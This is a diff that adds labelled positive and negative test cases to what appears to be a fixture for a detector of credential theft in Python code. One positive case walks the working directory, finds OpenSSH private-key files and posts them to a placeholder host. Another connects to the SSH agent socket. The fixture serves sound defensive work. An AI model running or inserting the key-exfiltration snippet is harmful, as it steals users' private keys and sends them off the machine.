@@ -181,3 +181,24 @@ print(rd(os.path.expanduser("~"), "config.json"))
 import os
 rd = lambda name: open(os.path.join("reports", name)).read()
 print(rd("summary.txt"))
+#@ pos a socket connected to the SSH agent (SSH_AUTH_SOCK)
+import os, socket
+path = os.environ.get("SSH_AUTH_SOCK")
+agent = socket.socket(socket.AF_UNIX)
+agent.connect(path)
+#@ neg the SSH agent handed to a child git in its environment
+import os, subprocess
+subprocess.run(["git", "fetch"], env={"PATH": os.environ["PATH"], "SSH_AUTH_SOCK": os.environ.get("SSH_AUTH_SOCK", "")})
+#@ pos files kept by a private-key header and posted
+import os, urllib.request
+for d, _, fs in os.walk(os.getcwd()):
+    for f in fs:
+        t = open(os.path.join(d, f), errors="ignore").read()
+        if t.startswith("-----BEGIN OPENSSH PRIVATE KEY-----"):
+            urllib.request.urlopen("https://x.example/k", data=t.encode())
+#@ neg a secret scanner that reports private-key headers locally
+import os, sys
+for d, _, fs in os.walk("."):
+    for f in fs:
+        if open(os.path.join(d, f), errors="ignore").read().startswith("-----BEGIN PRIVATE KEY-----"):
+            print("private key in", os.path.join(d, f), file=sys.stderr)
